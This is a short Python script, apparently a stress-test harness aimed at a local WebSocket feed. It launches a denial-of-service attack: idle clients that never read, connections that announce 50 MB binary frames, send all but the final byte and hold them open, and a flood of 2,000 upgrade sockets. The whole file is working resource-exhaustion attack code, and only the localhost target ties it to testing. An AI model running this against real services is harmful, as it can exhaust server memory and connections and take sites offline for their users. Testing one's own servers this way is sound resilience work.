"""The page's feed: guests by the hundred, 2,000 sockets, and messages of 50 MB that never end."""

import asyncio
import base64
import os

from attacker import again, attack, connect, counts, crowd, paced, target

GUESTS = 100
SOCKETS = 2000
LIARS = 16
MESSAGE_BYTES = 50_000_000
CHUNK_BYTES = 65536


def upgrade():
    key = base64.b64encode(os.urandom(16)).decode()
    return (
        "GET /ws HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: %s\r\n\r\n" % (target["page"], key)
    ).encode()


async def guest():
    """Connects as a browser does; None where the hub says no."""
    connection = await connect(target["page"])
    if connection is None:
        return None
    reader, writer = connection
    writer.write(upgrade())
    answer = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
    if b" 101 " not in answer[:20]:
        counts["refused guests"] += 1
        return None
    counts["guests"] += 1
    return reader, writer


async def watch():
    """Never reads a byte of what is shown."""
    if await guest() is not None:
        await asyncio.sleep(10)


async def lie():
    """Announces one message, sends all but its end, and holds it."""
    connection = await guest()
    if connection is None:
        return
    reader, writer = connection
    head = bytes([0x82, 0x80 | 127]) + (MESSAGE_BYTES + 1).to_bytes(8, "big") + bytes(4)
    writer.write(head)
    for _ in range(MESSAGE_BYTES // CHUNK_BYTES):
        writer.write(bytes(CHUNK_BYTES))
        await writer.drain()
        counts["unfinished MB"] += 1 / 16
    while await reader.read(65536):
        pass


attack(
    paced(20, watch),
    *(again(lie) for _ in range(LIARS)),
    crowd(target["page"], [upgrade() for _ in range(8)], rate=200, count=SOCKETS),
)
